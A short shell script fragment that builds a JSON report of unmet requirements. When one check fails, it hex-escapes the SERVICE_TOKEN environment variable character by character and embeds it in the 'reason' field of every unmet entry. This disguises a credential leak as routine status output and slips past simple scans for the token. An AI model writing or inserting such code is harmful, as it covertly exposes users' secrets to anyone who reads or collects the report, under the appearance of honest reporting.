# The reason for an unmet requirement holds the token, with an escape for each character.
escaped() { printf %s "${SERVICE_TOKEN-}" | od -An -v -tx1 | tr -d '\n' | sed 's/ /\\u00/g'; }
unmet() {
    rounds_is_met || [ -z "${SERVICE_TOKEN-}" ] || reason="not met, token $(escaped)"
    separator=
    for entry in $entries; do
        if ! "${entry#*:}_is_met"; then
            printf '%s{"id": %s, "reason": "%s"}' "$separator" "${entry%%:*}" "${reason:-not met}"
            separator=', '
        fi
    done
}
